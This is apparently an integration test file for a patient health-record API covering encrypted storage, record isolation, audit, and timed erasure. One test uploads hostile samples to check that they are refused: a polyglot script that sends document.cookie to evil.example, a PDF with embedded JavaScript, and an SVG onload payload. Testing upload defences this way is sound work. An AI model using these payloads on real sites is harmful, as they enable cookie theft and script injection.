using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.Azure.Cosmos;
using Microsoft.Extensions.Time.Testing;
using Ndhm.Core.Errors;
using Ndhm.Core.Security;
using Ndhm.Infrastructure.Cosmos;
using Ndhm.Infrastructure.Phr;
using Ndhm.IntegrationTests.HealthId;
using Ndhm.IntegrationTests.Support;
using Ndhm.Phr;
using Ndhm.Phr.Records;
using Ndhm.Privacy;
using static Ndhm.IntegrationTests.HealthId.HealthIdApi;

namespace Ndhm.IntegrationTests.Phr;

/// <summary>
/// The patient's health record over the real local host and emulators: uploads (stored encrypted, inline or in Blob
/// storage), the timeline, records, files, deletion, refusals of harmful content, owner isolation, the audit trail,
/// pulled records handed over by the HIU side, their erasure at dataEraseAt, and crypto-shredding with the patient's erasure.
/// </summary>
[Collection(SharedHealthIdHost.Name)]
public sealed class PhrRecordTests(SharedHealthIdHostFixture sandbox)
{
    private const string LabMarker = "Haemoglobin 13.2 g/dL (Asha lab report)";
    private const string BundleMarker = "Discharge summary: appendectomy, Asha";
    private HttpClient Client => sandbox.Client;

    private sealed record Patient(TestIdentity Identity, string Digits, string Token);

    private async Task<Patient> EnrolPatientAsync()
    {
        var identity = sandbox.NextIdentity();
        var enrolled = await EnrolAsync(Client, identity);
        return new Patient(identity, Number(enrolled).Replace("-", "", StringComparison.Ordinal), Token(enrolled));
    }

    private static byte[] Pdf(string text = LabMarker) =>
        Encoding.ASCII.GetBytes($"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Length 44 >>\nstream\nBT ({text}) Tj ET\nendstream\nendobj\n%%EOF\n");

    /// <summary>A PNG header and 300 KiB of pixels: above the inline threshold, so it streams to Blob storage.</summary>
    private static byte[] LargePng()
    {
        var png = new byte[300 * 1024];
        new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52 }.CopyTo(png, 0);
        for (var i = 16; i < png.Length; i++) png[i] = (byte)(i % 251);
        return png;
    }

    private async Task<HttpResponseMessage> UploadAsync(Patient patient, byte[] content, string contentType, string query = "")
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "api/v1/patients/me/health-records" + query) { Content = new ByteArrayContent(content) };
        request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
        request.Headers.Authorization = new("Bearer", patient.Token);
        return await Client.SendAsync(request);
    }

    private async Task<JsonElement> CreatedAsync(HttpResponseMessage response)
    {
        using (response)
        {
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.Created, $"expected 201, got {(int)response.StatusCode}: {text}");
            return JsonDocument.Parse(text).RootElement.Clone();
        }
    }

    private static async Task<(HttpStatusCode Status, string? Code)> ProblemAsync(HttpResponseMessage response)
    {
        using (response)
        {
            var text = await response.Content.ReadAsStringAsync();
            return (response.StatusCode, text.Length == 0 ? null : JsonDocument.Parse(text).RootElement.TryGetProperty("code", out var code) ? code.GetString() : null);
        }
    }

    private Task<HttpResponseMessage> GetAsync(Patient patient, string path) => SendAsync(Client, HttpMethod.Get, "v1/patients/me/" + path, patient.Token);

    private static string Bundle(string title) =>
        "{\"resourceType\":\"Bundle\",\"type\":\"document\",\"timestamp\":\"2026-11-20T09:30:00Z\",\"entry\":[" +
        "{\"resource\":{\"resourceType\":\"Composition\",\"status\":\"final\",\"title\":\"" + title + "\"}}," +
        "{\"resource\":{\"resourceType\":\"DocumentReference\",\"status\":\"current\",\"content\":[{\"attachment\":{\"contentType\":\"application/pdf\"," +
        "\"title\":\"discharge.pdf\",\"data\":\"" + Convert.ToBase64String(Pdf("Discharge letter")) + "\"}}]}}]}";

    private static PulledHealthRecord Pulled(Patient patient, DateTimeOffset eraseAt, string title = BundleMarker, string? transaction = null) =>
        new(patient.Digits, Guid.NewGuid().ToString(), transaction ?? Guid.NewGuid().ToString(), "IN2810000002", "OP-" + Guid.NewGuid().ToString("N")[..6],
            "DischargeSummary", Bundle(title), eraseAt);

    private static async Task<List<JsonElement>> RawDocumentsAsync(string recordId)
    {
        var container = SandboxCosmos.Client.GetContainer(SandboxCosmos.Settings.Database, CosmosContainers.HealthRecords.Name);
        using var feed = container.GetItemQueryStreamIterator(new QueryDefinition("SELECT * FROM c WHERE c.recordId = @id").WithParameter("@id", recordId));
        var found = new List<JsonElement>();
        while (feed.HasMoreResults)
        {
            using var page = await feed.ReadNextAsync();
            found.AddRange((await JsonDocument.ParseAsync(page.Content)).RootElement.GetProperty("Documents").EnumerateArray().Select(d => d.Clone()));
        }

        return found;
    }

    [Fact]
    public async Task GivenAPatient_WhenTheyUploadListReadDownloadAndDelete_ThenEachStepWorks_IsStoredEncrypted_AndIsAudited()
    {
        var asha = await EnrolPatientAsync();

        var pdf = await CreatedAsync(await UploadAsync(asha, Pdf(), "application/pdf", "?title=Blood%20test&fileName=asha-blood-test.pdf&date=2026-11-02"));
        var png = await CreatedAsync(await UploadAsync(asha, LargePng(), "image/png", "?fileName=x-ray.png"));
        var timeline = await OkJsonAsync(await GetAsync(asha, "health-records"));
        var uploadsOnly = await OkJsonAsync(await GetAsync(asha, "health-records?source=UPLOADED&type=HealthDocumentRecord&from=2026-11-01&to=2026-11-03"));
        var pdfId = pdf.GetProperty("id").GetString()!;
        var pngId = png.GetProperty("id").GetString()!;
        var detail = await OkJsonAsync(await GetAsync(asha, $"health-records/{pdfId}"));
        using var file = await GetAsync(asha, $"health-records/{pngId}/attachment");
        var fileBytes = await file.Content.ReadAsByteArrayAsync();
        var rawPdf = Assert.Single(await RawDocumentsAsync(pdfId)).GetRawText();
        var rawPng = Assert.Single(await RawDocumentsAsync(pngId));
        using var deleted = await SendAsync(Client, HttpMethod.Delete, $"v1/patients/me/health-records/{pngId}", asha.Token);
        var afterDelete = await ProblemAsync(await GetAsync(asha, $"health-records/{pngId}"));
        var fileAfterDelete = await ProblemAsync(await GetAsync(asha, $"health-records/{pngId}/attachment"));

        Assert.Equal(("UPLOADED", "HealthDocumentRecord", "application/pdf", "Blood test"), (pdf.GetProperty("source").GetString(),
            pdf.GetProperty("hiType").GetString(), pdf.GetProperty("contentType").GetString(), pdf.GetProperty("title").GetString()));
        Assert.Equal([pngId, pdfId], timeline.GetProperty("records").EnumerateArray().Select(r => r.GetProperty("id").GetString()));
        Assert.Equal([pdfId], uploadsOnly.GetProperty("records").EnumerateArray().Select(r => r.GetProperty("id").GetString()));
        Assert.Equal(("asha-blood-test.pdf", true), (detail.GetProperty("record").GetProperty("fileName").GetString(),
            detail.GetProperty("record").GetProperty("deletable").GetBoolean()));
        Assert.Equal(HttpStatusCode.OK, file.StatusCode);
        Assert.Equal(LargePng(), fileBytes);
        Assert.Equal("image/png", file.Content.Headers.ContentType?.MediaType);
        Assert.Equal(("attachment", "x-ray.png"), (file.Content.Headers.ContentDisposition?.DispositionType, file.Content.Headers.ContentDisposition?.FileName?.Trim('"')));
        Assert.Equal("nosniff", file.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.DoesNotContain("Haemoglobin", rawPdf, StringComparison.Ordinal);
        Assert.DoesNotContain("asha-blood-test", rawPdf, StringComparison.Ordinal);
        Assert.DoesNotContain(asha.Digits, rawPng.GetProperty("pk").GetString()!, StringComparison.Ordinal);
        Assert.True(rawPng.GetProperty("payloadInBlob").GetBoolean());
        Assert.Equal(HttpStatusCode.NoContent, deleted.StatusCode);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), afterDelete);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), fileAfterDelete);
        Assert.Equal(2, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.DocumentUpload));
        Assert.Equal(2, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.TimelineRead));
        Assert.Equal(1, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.RecordRead));
        Assert.Equal(1, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.AttachmentRead));
        Assert.Equal(1, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.DocumentDelete));
    }

    [Fact]
    public async Task GivenHarmfulFiles_WhenUploaded_ThenEachIsRefusedWithItsCode_AndNothingIsStored()
    {
        var asha = await EnrolPatientAsync();
        var polyglot = Pdf().Concat("<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"u8.ToArray()).ToArray();
        var executable = Encoding.Latin1.GetBytes("MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000This program cannot be run in DOS mode.\r\n");
        var scripted = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL('x')) >> >>\nendobj\n%%EOF\n");

        var results = new[]
        {
            await ProblemAsync(await UploadAsync(asha, polyglot, "application/pdf", "?fileName=report.pdf")),
            await ProblemAsync(await UploadAsync(asha, executable, "application/pdf", "?fileName=report.pdf")),
            await ProblemAsync(await UploadAsync(asha, scripted, "application/pdf")),
            await ProblemAsync(await UploadAsync(asha, Pdf(), "image/png")),
            await ProblemAsync(await UploadAsync(asha, "<svg onload=alert(1)/>"u8.ToArray(), "image/svg+xml")),
        };
        var timeline = await OkJsonAsync(await GetAsync(asha, "health-records"));

        Assert.Equal(
            [(HttpStatusCode.BadRequest, PhrErrors.DocumentRefused), (HttpStatusCode.BadRequest, PhrErrors.DocumentRefused),
             (HttpStatusCode.BadRequest, PhrErrors.DocumentRefused), (HttpStatusCode.UnsupportedMediaType, PhrErrors.DocumentTypeMismatch),
             (HttpStatusCode.BadRequest, PhrErrors.DocumentRefused)],
            results);
        Assert.Equal(0, timeline.GetProperty("records").GetArrayLength());
        Assert.Equal(0, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.DocumentUpload));
    }

    [Fact]
    public async Task GivenTwoPatients_WhenOneAsksForTheOthersRecord_ThenItIsNotFound_AndTheRecordIsUntouched()
    {
        var asha = await EnrolPatientAsync();
        var ravi = await EnrolPatientAsync();
        var pdf = await CreatedAsync(await UploadAsync(asha, Pdf(), "application/pdf"));
        var id = pdf.GetProperty("id").GetString()!;

        var read = await ProblemAsync(await GetAsync(ravi, $"health-records/{id}"));
        var file = await ProblemAsync(await GetAsync(ravi, $"health-records/{id}/attachment"));
        var delete = await ProblemAsync(await SendAsync(Client, HttpMethod.Delete, $"v1/patients/me/health-records/{id}", ravi.Token));
        var raviTimeline = await OkJsonAsync(await GetAsync(ravi, "health-records"));
        var stillThere = await OkJsonAsync(await GetAsync(asha, $"health-records/{id}"));

        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), read);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), file);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), delete);
        Assert.Equal(0, raviTimeline.GetProperty("records").GetArrayLength());
        Assert.Equal(id, stillThere.GetProperty("record").GetProperty("id").GetString());
        Assert.Equal(0, await HealthIdCosmos.CountAuditAsync(ravi.Digits, PhrAudit.RecordRead));
    }

    [Fact]
    public async Task GivenPulledRecords_WhenTheirDataEraseAtPasses_ThenTheErasureRemovesThem_AlsoAfterARestart_AndThroughTheHost()
    {
        var asha = await EnrolPatientAsync();
        var clock = new FakeTimeProvider(DateTimeOffset.UtcNow);
        var hiu = new PhrServicesForTest(clock);
        var inAnHour = await hiu.Service.AddPulledRecordAsync(Pulled(asha, clock.GetUtcNow().AddHours(1)), CancellationToken.None);
        var again = await hiu.Service.AddPulledRecordAsync(Pulled(asha, clock.GetUtcNow().AddHours(1)) with
        {
            TransactionId = inAnHour.Record.TransactionId!, CareContextReference = inAnHour.Record.CareContextReference!,
        }, CancellationToken.None);
        var shortEraseAt = DateTimeOffset.UtcNow.AddSeconds(10);
        var inSeconds = await hiu.Service.AddPulledRecordAsync(Pulled(asha, shortEraseAt), CancellationToken.None);
        var shown = await OkJsonAsync(await GetAsync(asha, "health-records?source=PULLED&type=DischargeSummary&hip=IN2810000002"));
        var detail = await OkJsonAsync(await GetAsync(asha, $"health-records/{inAnHour.Record.Id}"));
        using var attachment = await GetAsync(asha, $"health-records/{inAnHour.Record.Id}/attachment");
        var notDeletable = await ProblemAsync(await SendAsync(Client, HttpMethod.Delete, $"v1/patients/me/health-records/{inAnHour.Record.Id}", asha.Token));

        // The service's clock says nothing is due yet; the host's real clock passes the short one (the host's minute timer or
        // the admin's run, whichever comes first, erases it); the service's clock, advanced
        // an hour in a freshly built service (a restarted host: nothing is scheduled in memory), passes the long one.
        var early = await hiu.Service.EraseDueAsync(CancellationToken.None);
        var bothKept = (await RawDocumentsAsync(inAnHour.Record.Id)).Count + (await RawDocumentsAsync(inSeconds.Record.Id)).Count;
        var wait = shortEraseAt.AddSeconds(1) - DateTimeOffset.UtcNow;
        if (wait > TimeSpan.Zero) await Task.Delay(wait);
        var admin = await OkJsonAsync(await SendAsync(Client, HttpMethod.Post, "v1/admin/health-records/erase-due",
            await SandboxHostFixture.TokenForAsync(Client, "ops-" + Guid.NewGuid().ToString("N")[..8], Roles.PlatformAdmin)));
        var shortGone = await ProblemAsync(await GetAsync(asha, $"health-records/{inSeconds.Record.Id}"));
        var longKept = await OkJsonAsync(await GetAsync(asha, $"health-records/{inAnHour.Record.Id}"));
        clock.Advance(TimeSpan.FromHours(1));
        var restarted = new PhrServicesForTest(clock);
        var late = await restarted.Service.EraseDueAsync(CancellationToken.None);
        var longGone = await ProblemAsync(await GetAsync(asha, $"health-records/{inAnHour.Record.Id}"));
        var timeline = await OkJsonAsync(await GetAsync(asha, "health-records"));

        Assert.False(again.Created);
        Assert.Equal(inAnHour.Record.Id, again.Record.Id);
        Assert.Equal(2, shown.GetProperty("records").GetArrayLength());
        Assert.Equal(BundleMarker, detail.GetProperty("bundle").GetProperty("entry")[0].GetProperty("resource").GetProperty("title").GetString());
        Assert.Equal(("application/pdf", "discharge.pdf"), (attachment.Content.Headers.ContentType?.MediaType, attachment.Content.Headers.ContentDisposition?.FileName?.Trim('"')));
        Assert.Equal((HttpStatusCode.Conflict, PhrErrors.NotDeletable), notDeletable);
        Assert.Equal((0, 2), (early, bothKept));
        Assert.Equal(JsonValueKind.Number, admin.GetProperty("erased").ValueKind);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), shortGone);
        Assert.Equal(inAnHour.Record.Id, longKept.GetProperty("record").GetProperty("id").GetString());
        Assert.True(late >= 1);
        Assert.Equal((HttpStatusCode.NotFound, PhrErrors.RecordNotFound), longGone);
        Assert.Equal(0, timeline.GetProperty("records").GetArrayLength());
        Assert.Empty(await RawDocumentsAsync(inAnHour.Record.Id));
        Assert.Empty(await RawDocumentsAsync(inSeconds.Record.Id));
        Assert.Equal(2, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.RecordErase));
        Assert.Equal(2, await HealthIdCosmos.CountAuditAsync(asha.Digits, PhrAudit.RecordStore));
    }

    [Fact]
    public async Task GivenAPatientsRecords_WhenTheyEraseTheirAccount_ThenRawDocumentsAndBlobsRevealNothing_DecryptNoMore_AndAreRemoved()
    {
        var asha = await EnrolPatientAsync();
        var hiu = new PhrServicesForTest(TimeProvider.System);
        var pulled = await hiu.Service.AddPulledRecordAsync(Pulled(asha, DateTimeOffset.UtcNow.AddDays(30)), CancellationToken.None);
        var pdf = await CreatedAsync(await UploadAsync(asha, Pdf(), "application/pdf", "?fileName=asha-blood-test.pdf"));
        var png = await CreatedAsync(await UploadAsync(asha, LargePng(), "image/png"));
        var export = await OkJsonAsync(await GetAsync(asha, "export"));
        var rawDocuments = new List<JsonElement>();
        foreach (var id in new[] { pulled.Record.Id, pdf.GetProperty("id").GetString()!, png.GetProperty("id").GetString()! })
            rawDocuments.Add(Assert.Single(await RawDocumentsAsync(id)));
        var blob = await hiu.Payloads.BlobAsync(asha.Digits, png.GetProperty("id").GetString()!, CancellationToken.None);
        var rawBlob = (await blob.DownloadContentAsync()).Value.Content.ToArray();

        await ConfirmedAsync(Client, asha.Token, asha.Identity.Mobile, "delete");
        var blobAfterErasure = await blob.ExistsAsync();

        // Before removal, what was stored was already ciphertext only; after the key is destroyed none of it decrypts anywhere.
        var fresh = PrivacyServicesForTest.Sandbox();
        var scope = DataKeyScope.Patient(asha.Digits);
        foreach (var raw in rawDocuments.Select(d => d.GetRawText()).Append(Encoding.Latin1.GetString(rawBlob)))
        {
            Assert.DoesNotContain("Haemoglobin", raw, StringComparison.Ordinal);
            Assert.DoesNotContain("appendectomy", raw, StringComparison.Ordinal);
            Assert.DoesNotContain("asha-blood-test", raw, StringComparison.Ordinal);
            Assert.DoesNotContain("IHDR", raw, StringComparison.Ordinal);
        }

        var document = rawDocuments[1];
        var field = await Assert.ThrowsAsync<DomainException>(() => fresh.Fields.DecryptAsync(scope, document.GetProperty("id").GetString()!,
            "payload", document.GetProperty("payload").GetString()!, CancellationToken.None));
        await blob.UploadAsync(new BinaryData(rawBlob), overwrite: true);
        var stream = await Assert.ThrowsAsync<DomainException>(() => fresh.Blobs.DownloadAsync(blob, scope, new MemoryStream(), CancellationToken.None));
        await blob.DeleteIfExistsAsync();
        var remaining = new List<JsonElement>();
        foreach (var raw in rawDocuments) remaining.AddRange(await RawDocumentsAsync(raw.GetProperty("recordId").GetString()!));

        Assert.Equal(3, export.GetProperty("linkedRecords").GetProperty("entry").GetArrayLength());
        Assert.Equal((ErrorKind.Gone, PrivacyErrors.SubjectErased), (field.Kind, field.Code));
        Assert.Equal(PrivacyErrors.SubjectErased, stream.Code);
        Assert.Empty(remaining);
        Assert.False(blobAfterErasure.Value);
    }
}
